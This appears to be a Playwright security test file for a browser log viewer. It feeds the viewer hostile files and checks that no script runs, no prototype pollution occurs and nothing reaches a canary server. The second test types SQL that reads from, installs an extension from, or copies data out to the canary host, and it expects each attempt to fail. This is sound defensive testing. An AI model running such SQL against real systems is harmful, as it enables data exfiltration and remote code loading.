import { expect, test } from '@playwright/test';
import { startCanary } from './canary.ts';
import { hostileFiles } from './hostile.ts';
import { give, host, openEvidence, openView, settled, singleFile, watch } from './open.ts';

for (const build of ['hosted', 'single file'] as const) {
  test(`${build}: hostile files load or are named; no script runs, nothing leaves`, async ({ page }) => {
    const canary = await startCanary();
    const hosted = build === 'hosted' ? await host() : null;
    const address = hosted?.address ?? singleFile;
    const seen = await watch(page);
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    const files = hostileFiles(canary.address);

    await page.goto(address);
    await give(page, files);
    const events = files.reduce((n, file) => n + file.events, 0);
    const status = await page.locator('footer.status').innerText();
    const loaded = Number(/([\d,]+) events?/.exec(status)?.[1]?.replaceAll(',', ''));
    // The broken gzip yields what lies before the break, so there may be more.
    expect(loaded).toBeGreaterThanOrEqual(events);
    await openEvidence(page, 'Files');
    const evidence = await page.locator('main').innerText();
    for (const { name, says } of files) if (says !== undefined) expect.soft(evidence, name).toMatch(says);

    await openView(page, 'Events');
    await page.keyboard.press('/');
    await page.keyboard.type('onerror');
    await page.keyboard.press('Enter');
    await expect(page.getByRole('gridcell', { name: /Sign-in/ })).toHaveCount(1);
    await page
      .getByRole('gridcell', { name: /Sign-in/ })
      .first()
      .click();
    await page.keyboard.press('Enter');
    await expect(page.getByRole('complementary').getByText('<script>').first()).toBeVisible();
    for (const view of ['Findings', 'Third parties', 'Timeline', 'SQL']) await openView(page, view);
    await settled(page);

    expect(await page.evaluate(() => Reflect.get(globalThis, 'pwned') as unknown)).toBeUndefined();
    expect(await page.evaluate(() => Reflect.get({}, 'polluted') as unknown)).toBeUndefined();
    expect(dialogs).toEqual([]);
    expect(canary.hits).toEqual([]);
    expect(seen.errors).toEqual([]);
    expect(
      seen.requests.filter((url) => !url.startsWith(address) && !url.startsWith('blob:') && !url.startsWith('data:')),
    ).toEqual([]);
    await canary.close();
    hosted?.close();
  });
}

test('the workers cannot reach the canary either, whatever SQL is typed', async ({ page }) => {
  const canary = await startCanary();
  const hosted = await host();
  await watch(page);
  await page.goto(hosted.address);
  await give(page, [{ name: 'one.json', bytes: hostileFiles(canary.address)[0]?.bytes ?? '' }]);
  await openView(page, 'SQL');
  for (const sql of [
    `select * from read_csv('${canary.address}/a.csv')`,
    `install httpfs from '${canary.address}'`,
    `load json`,
    `select json_extract('{}', '$.a')`,
    `copy (select 1) to '${canary.address}/out.csv'`,
    `set autoload_known_extensions = true`,
  ]) {
    await page.locator('.cm-content').click();
    await page.keyboard.press('ControlOrMeta+A');
    await page.keyboard.insertText(sql);
    await page.keyboard.press('ControlOrMeta+Enter');
    await expect.soft(page.locator('main').getByRole('alert'), sql).toBeVisible({ timeout: 10_000 });
  }
  expect(canary.hits).toEqual([]);
  await canary.close();
  hosted.close();
});
